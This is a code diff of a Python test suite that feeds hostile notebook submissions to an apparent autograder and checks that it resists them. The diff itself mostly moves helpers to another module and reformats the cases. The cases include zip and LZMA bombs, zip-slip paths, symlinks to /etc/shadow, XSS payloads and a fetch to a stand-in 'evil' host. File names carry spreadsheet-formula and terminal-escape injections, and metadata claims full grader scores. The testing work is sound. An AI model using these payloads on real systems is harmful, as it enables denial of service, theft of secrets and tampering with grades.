@@ -1,33 +1,32 @@
-"""Hostile files: what is wrong with them is the file, its name or its size, and no answer in it."""
+"""Attacks whose point is the file that is handed in, its name or its size, and no answer in it."""
 
 from __future__ import annotations
 
-import io
-import json
-import lzma
 import os
-import stat
-import zipfile
-from collections.abc import Callable
 from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Any
 
 from attack import Attack
+from hostile_files import (
+    SOURCE,
+    Write,
+    big_notebook,
+    device,
+    fifo,
+    folder_named_like_a_notebook,
+    link_to,
+    loop,
+    lzma_bomb,
+    notebook,
+    sparse_terabyte,
+    text_file,
+    with_outputs,
+    zip_bomb,
+    zipped,
+)
 
 from instructor.master import Master
-
-Write = Callable[[Path], Path]
-SOURCE = "def clip_gradients(gradients, max_norm=1.0):\n    return list(gradients)\n"
-
-
-def notebook(*sources: str, **extra: Any) -> str:
-    """A small notebook with these code cells."""
-    cells = [
-        {"cell_type": "code", "source": source, "metadata": {}, "outputs": [], "execution_count": None, "id": f"c{i}"}
-        for i, source in enumerate(sources)
-    ]
-    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5, **extra})
 
 
 @dataclass(frozen=True)
@@ -41,119 +40,12 @@ class FileAttack(Attack):
         return [self.write(folder)]
 
 
-def text_file(name: str, text: str | bytes) -> Write:
-    def write(folder: Path) -> Path:
-        path = folder / name
-        path.write_bytes(text.encode() if isinstance(text, str) else text)
-        return path
-
-    return write
-
-
-def zipped(name: str, members: dict[str, str | bytes], method: int = zipfile.ZIP_DEFLATED, cut: int = 0) -> Write:
-    def write(folder: Path) -> Path:
-        buffer = io.BytesIO()
-        with zipfile.ZipFile(buffer, "w", method) as archive:
-            for member, content in members.items():
-                archive.writestr(member, content)
-        data = bytearray(buffer.getvalue())
-        if cut:
-            data[len(data) // 3 : len(data) // 3 + cut] = b"\xff" * cut
-        path = folder / name
-        path.write_bytes(data)
-        return path
-
-    return write
-
-
-def zip_bomb(folder: Path) -> Path:
-    """Two gigabytes of zeros in two megabytes."""
-    path = folder / "zip_bomb.zip"
-    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("x.ipynb", "w", force_zip64=True) as one:
-        for _ in range(128):
-            one.write(bytes(1 << 24))
-    return path
-
-
-def lzma_bomb(folder: Path) -> Path:
-    """A member whose decompressor wants a dictionary of four gigabytes."""
-    raw = io.BytesIO()
-    with zipfile.ZipFile(raw, "w", zipfile.ZIP_LZMA) as archive:
-        archive.writestr("x.ipynb", notebook(SOURCE))
-    data = bytearray(raw.getvalue())
-    at = data.index(b"x.ipynb") + len(b"x.ipynb") + 4  # after LZMA's version and the length of its properties
-    data[at + 1 : at + 5] = (0xFFFFFFFF).to_bytes(4, "little")
-    path = folder / "lzma_bomb.zip"
-    path.write_bytes(data)
-    assert lzma.FORMAT_RAW
-    return path
-
-
-def link_to(name: str, target: str) -> Write:
-    def write(folder: Path) -> Path:
-        (folder / name).symlink_to(target)
-        return folder / name
-
-    return write
-
-
-def fifo(folder: Path) -> Path:
-    os.mkfifo(folder / "fifo.ipynb")
-    return folder / "fifo.ipynb"
-
-
-def device(folder: Path) -> Path:
-    os.mknod(folder / "device.ipynb", stat.S_IFCHR | 0o666, os.makedev(1, 5))  # /dev/zero
-    return folder / "device.ipynb"
-
-
-def folder_named_like_a_notebook(folder: Path) -> Path:
-    (folder / "folder.ipynb").mkdir()
-    (folder / "folder.ipynb" / "inner.ipynb").write_text(notebook(SOURCE))
-    return folder / "folder.ipynb" / "inner.ipynb"
-
-
-def loop(folder: Path) -> Path:
-    (folder / "loop").mkdir()
-    (folder / "loop" / "again").symlink_to("..", target_is_directory=True)
-    (folder / "loop" / "loop.ipynb").write_text(notebook(SOURCE))
-    return folder / "loop" / "loop.ipynb"
-
-
-def big_notebook(folder: Path) -> Path:
-    """A hundred megabytes, nearly all of them output."""
-    path = folder / "big_notebook.ipynb"
-    output = {"output_type": "stream", "name": "stdout", "text": "x" * 100_000_000}
-    path.write_text(notebook(SOURCE)[:-1] + ', "more": ' + json.dumps([output]) + "}")
-    return path
-
-
-def sparse_terabyte(folder: Path) -> Path:
-    path = folder / "sparse_terabyte.ipynb"
-    with path.open("wb") as file:
-        file.truncate(1 << 40)
-    return path
-
-
-def with_outputs() -> str:
-    """Outputs, metadata and markdown that would run in a browser, and tags that other graders obey."""
-    bad = "<script>fetch('//evil')</script><img src=x onerror=alert(1)>"
-    data = json.loads(notebook(SOURCE))
-    data["cells"][0]["metadata"] = {"tags": ["otter_ignore", bad], "nbgrader": {"grade": True, "points": 100, "locked": True}}
-    data["cells"][0]["outputs"] = [
-        {"output_type": "display_data", "data": {"text/html": bad, "application/javascript": "alert(1)"}, "metadata": {}}
-    ]
-    data["cells"].append({"cell_type": "markdown", "source": bad, "metadata": {}, "id": "m"})
-    data["metadata"] = {"kernelspec": {"name": "../../bin/sh", "display_name": bad, "language": "bash"}, "otter": {"score": 100}}
-    return json.dumps(data)
-
-
 NAMES = {
-    "formula": "=HYPERLINK(\"http:evil?x=\"&A1,\"grade\").ipynb",
+    "formula": '=HYPERLINK("http:evil?x="&A1,"grade").ipynb',
     "plus": "+1-1@SUM(A1).ipynb",
     "html": "<img src=x onerror=alert(1)><script>alert(2)<!-- &lt;.ipynb",
     "terminal": "\x1b[2J\x1b]0;owned\x07\r[bold red]passed[/].ipynb",
-    "lines": "a,b\"\n\"c\n100,100.ipynb",
+    "lines": 'a,b"\n"c\n100,100.ipynb',
     "not_utf8": os.fsdecode(b"caf\xe9-\xff.ipynb"),
     "template": "{{ 7*7 }}{% raw %}.ipynb",
     "long": "n" * 240 + ".ipynb",
@@ -178,58 +70,216 @@ def file_attacks() -> list[FileAttack]:
     bombs, tricks, text = "files: bombs", "files: tricks", "files: text"
     found = [
         one("zip_bomb", bombs, "unpack to two gigabytes", "at most 50 MB are unpacked", zip_bomb, **unreadable),
-        one("lzma_bomb", bombs, "make the decompressor ask for four gigabytes", "the file is called damaged, or is read", lzma_bomb),
-        one("damaged_zip", bombs, "break the compressed data in the middle", "the file is called damaged",
-            zipped("damaged_zip.zip", {"x.ipynb": notebook(SOURCE, *[os.urandom(3000).hex()])}, cut=60), **unreadable),
-        one("two_notebooks", tricks, "pack two notebooks", "one is asked for",
-            zipped("two_notebooks.zip", {"a.ipynb": notebook(SOURCE), "b.ipynb": notebook(SOURCE)}), **unreadable),
-        one("zip_slip", tricks, "write outside by names in the zip", "nothing is unpacked to disk",
-            zipped("zip_slip.zip", {"../../../../tmp/gradlab-slip.ipynb": notebook(SOURCE), "/tmp/gradlab-slip": "x"})),
-        one("zip_of_zips", bombs, "pack a zip in a zip", "it is not unpacked again",
-            zipped("zip_of_zips.zip", {"inner.zip": b"PK\x05\x06" + bytes(18)}), **unreadable),
-        one("link_to_secret", tricks, "hand in a link to a secret of the machine", "links are not followed",
-            link_to("link_to_secret.ipynb", "/etc/shadow"), **unreadable),
-        one("link_to_classmate", tricks, "hand in a link to a classmate's notebook", "links are not followed",
-            link_to("link_to_classmate.ipynb", "honest-right.ipynb"), **unreadable),
-        one("link_to_device", tricks, "hand in a link to an endless device", "links are not followed",
-            link_to("link_to_device.zip", "/dev/zero"), **unreadable),
-        one("fifo", tricks, "hand in a pipe that nobody writes to", "only ordinary files are opened", fifo, **unreadable),
-        one("device", tricks, "hand in an endless device", "only ordinary files are opened", device, root_only=True, **unreadable),
-        one("folder", tricks, "name a folder like a notebook", "the notebook in it is graded", folder_named_like_a_notebook),
+        one(
+            "lzma_bomb",
+            bombs,
+            "make the decompressor ask for four gigabytes",
+            "the file is called damaged, or is read",
+            lzma_bomb,
+        ),
+        one(
+            "damaged_zip",
+            bombs,
+            "break the compressed data in the middle",
+            "the file is called damaged",
+            zipped("damaged_zip.zip", {"x.ipynb": notebook(SOURCE, *[os.urandom(3000).hex()])}, cut=60),
+            **unreadable,
+        ),
+        one(
+            "two_notebooks",
+            tricks,
+            "pack two notebooks",
+            "one is asked for",
+            zipped("two_notebooks.zip", {"a.ipynb": notebook(SOURCE), "b.ipynb": notebook(SOURCE)}),
+            **unreadable,
+        ),
+        one(
+            "zip_slip",
+            tricks,
+            "write outside by names in the zip",
+            "nothing is unpacked to disk",
+            zipped("zip_slip.zip", {"../../../../tmp/gradlab-slip.ipynb": notebook(SOURCE), "/tmp/gradlab-slip": "x"}),
+        ),
+        one(
+            "zip_of_zips",
+            bombs,
+            "pack a zip in a zip",
+            "it is not unpacked again",
+            zipped("zip_of_zips.zip", {"inner.zip": b"PK\x05\x06" + bytes(18)}),
+            **unreadable,
+        ),
+        one(
+            "link_to_secret",
+            tricks,
+            "hand in a link to a secret of the machine",
+            "links are not followed",
+            link_to("link_to_secret.ipynb", "/etc/shadow"),
+            **unreadable,
+        ),
+        one(
+            "link_to_classmate",
+            tricks,
+            "hand in a link to a classmate's notebook",
+            "links are not followed",
+            link_to("link_to_classmate.ipynb", "honest-right.ipynb"),
+            **unreadable,
+        ),
+        one(
+            "link_to_device",
+            tricks,
+            "hand in a link to an endless device",
+            "links are not followed",
+            link_to("link_to_device.zip", "/dev/zero"),
+            **unreadable,
+        ),
+        one(
+            "fifo", tricks, "hand in a pipe that nobody writes to", "only ordinary files are opened", fifo, **unreadable
+        ),
+        one(
+            "device",
+            tricks,
+            "hand in an endless device",
+            "only ordinary files are opened",
+            device,
+            root_only=True,
+            **unreadable,
+        ),
+        one(
+            "folder",
+            tricks,
+            "name a folder like a notebook",
+            "the notebook in it is graded",
+            folder_named_like_a_notebook,
+        ),
         one("loop", tricks, "hand in a folder that contains itself", "links to folders are not followed", loop),
-        one("big_notebook", bombs, "hand in a notebook of 100 MB", "it is refused with a sentence", big_notebook, **unreadable),
-        one("sparse_terabyte", bombs, "hand in a terabyte of nothing", "at most 50 MB are read", sparse_terabyte, **unreadable),
-        one("ten_thousand_cells", bombs, "hand in ten thousand cells", "they are refused with a sentence",
-            text_file("ten_thousand_cells.ipynb", notebook(*["x = 1"] * 10_000)), **unreadable),
-        one("deep_json", bombs, "nest JSON a million levels deep", "it is called unreadable",
-            text_file("deep_json.ipynb", '{"cells":' + "[" * 1_000_000 + "]" * 1_000_000 + "}"), **unreadable),
-        one("long_number", bombs, "use a number of a million digits in JSON", "it is called unreadable",
-            text_file("long_number.ipynb", notebook(SOURCE)[:-1] + ', "x": ' + "9" * 1_000_000 + "}"), **unreadable),
-        one("deep_brackets", bombs, "nest brackets in the source", "the answer beside them is graded",
-            text_file("deep_brackets.ipynb", notebook(nested(150), nested(5000), "-" * 50_000 + "1", SOURCE))),
-        one("deep_operators", bombs, "chain ten thousand attributes, calls and operators on the way to the answer",
+        one(
+            "big_notebook",
+            bombs,
+            "hand in a notebook of 100 MB",
+            "it is refused with a sentence",
+            big_notebook,
+            **unreadable,
+        ),
+        one(
+            "sparse_terabyte",
+            bombs,
+            "hand in a terabyte of nothing",
+            "at most 50 MB are read",
+            sparse_terabyte,
+            **unreadable,
+        ),
+        one(
+            "ten_thousand_cells",
+            bombs,
+            "hand in ten thousand cells",
+            "they are refused with a sentence",
+            text_file("ten_thousand_cells.ipynb", notebook(*["x = 1"] * 10_000)),
+            **unreadable,
+        ),
+        one(
+            "deep_json",
+            bombs,
+            "nest JSON a million levels deep",
+            "it is called unreadable",
+            text_file("deep_json.ipynb", '{"cells":' + "[" * 1_000_000 + "]" * 1_000_000 + "}"),
+            **unreadable,
+        ),
+        one(
+            "long_number",
+            bombs,
+            "use a number of a million digits in JSON",
+            "it is called unreadable",
+            text_file("long_number.ipynb", notebook(SOURCE)[:-1] + ', "x": ' + "9" * 1_000_000 + "}"),
+            **unreadable,
+        ),
+        one(
+            "deep_brackets",
+            bombs,
+            "nest brackets in the source",
+            "the answer beside them is graded",
+            text_file("deep_brackets.ipynb", notebook(nested(150), nested(5000), "-" * 50_000 + "1", SOURCE)),
+        ),
+        one(
+            "deep_operators",
+            bombs,
+            "chain ten thousand attributes, calls and operators on the way to the answer",
             "the cell is called unreadable or the answer is graded",
-            text_file("deep_operators.ipynb", notebook("y = 0" + ".real" * 3000, "z = y" + "+y" * 20_000, "w = y" + "[0]" * 4000,
-                                                       "if 0: pass\n" + "elif 0: pass\n" * 4000,
-                                                       SOURCE.replace("list(", "(y, z, w) and list(")))),
-        one("chain_of_names", bombs, "make the answer depend on fifty thousand statements", "the answer is graded in time",
-            text_file("chain_of_names.ipynb", notebook(
-                "x0 = 0\n" + "\n".join(f"x{i + 1} = x{i}" for i in range(50_000)), SOURCE.replace("list(", "x50000 or list(")))),
-        one("long_line", bombs, "hand in a line of thirty megabytes", "the answer beside it is graded",
-            text_file("long_line.ipynb", notebook("x = '" + "a" * 30_000_000 + "'", SOURCE.replace("list(", "len(x) and list(")))),
-        one("html_outputs", text, "put scripts into outputs, metadata and markdown, and tags for graders", "only code is read",
-            text_file("html_outputs.ipynb", with_outputs())),
-        one("surrogates", text, "use lone surrogates and null bytes in the source", "the cell is called unreadable",
-            text_file("surrogates.ipynb", notebook("x = '\ud800'", "y = '\0'", "# \x0c\x1c\u2028\n", SOURCE))),
-        one("utf16", text, "save the notebook in UTF-16", "it is called unreadable",
-            text_file("utf16.ipynb", notebook(SOURCE).encode("utf-16")), **unreadable),
-        one("wrong_types", text, "hand in JSON whose parts have wrong types", "it is called unreadable",
-            text_file("wrong_types.ipynb", '{"cells": [{"cell_type": "code", "source": [1, null]}, 7, "x"], "nbformat": "4"}'), **unreadable),
+            text_file(
+                "deep_operators.ipynb",
+                notebook(
+                    "y = 0" + ".real" * 3000,
+                    "z = y" + "+y" * 20_000,
+                    "w = y" + "[0]" * 4000,
+                    "if 0: pass\n" + "elif 0: pass\n" * 4000,
+                    SOURCE.replace("list(", "(y, z, w) and list("),
+                ),
+            ),
+        ),
+        one(
+            "chain_of_names",
+            bombs,
+            "make the answer depend on fifty thousand statements",
+            "the answer is graded in time",
+            text_file(
+                "chain_of_names.ipynb",
+                notebook(
+                    "x0 = 0\n" + "\n".join(f"x{i + 1} = x{i}" for i in range(50_000)),
+                    SOURCE.replace("list(", "x50000 or list("),
+                ),
+            ),
+        ),
+        one(
+            "long_line",
+            bombs,
+            "hand in a line of thirty megabytes",
+            "the answer beside it is graded",
+            text_file(
+                "long_line.ipynb",
+                notebook("x = '" + "a" * 30_000_000 + "'", SOURCE.replace("list(", "len(x) and list(")),
+            ),
+        ),
+        one(
+            "html_outputs",
+            text,
+            "put scripts into outputs, metadata and markdown, and tags for graders",
+            "only code is read",
+            text_file("html_outputs.ipynb", with_outputs()),
+        ),
+        one(
+            "surrogates",
+            text,
+            "use lone surrogates and null bytes in the source",
+            "the cell is called unreadable",
+            text_file("surrogates.ipynb", notebook("x = '\ud800'", "y = '\0'", "# \x0c\x1c\u2028\n", SOURCE)),
+        ),
+        one(
+            "utf16",
+            text,
+            "save the notebook in UTF-16",
+            "it is called unreadable",
+            text_file("utf16.ipynb", notebook(SOURCE).encode("utf-16")),
+            **unreadable,
+        ),
+        one(
+            "wrong_types",
+            text,
+            "hand in JSON whose parts have wrong types",
+            "it is called unreadable",
+            text_file(
+                "wrong_types.ipynb", '{"cells": [{"cell_type": "code", "source": [1, null]}, 7, "x"], "nbformat": "4"}'
+            ),
+            **unreadable,
+        ),
         one("empty", text, "hand in nothing", "it is called empty", text_file("empty.ipynb", ""), **unreadable),
     ]
     found += [
-        one(f"name_{key}", "files: names", f"name the file {ascii(name)[:60]}", "the name is shown as text everywhere",
-            text_file(name, notebook(SOURCE)))
+        one(
+            f"name_{key}",
+            "files: names",
+            f"name the file {ascii(name)[:60]}",
+            "the name is shown as text everywhere",
+            text_file(name, notebook(SOURCE)),
+        )
         for key, name in NAMES.items()
     ]
     return found
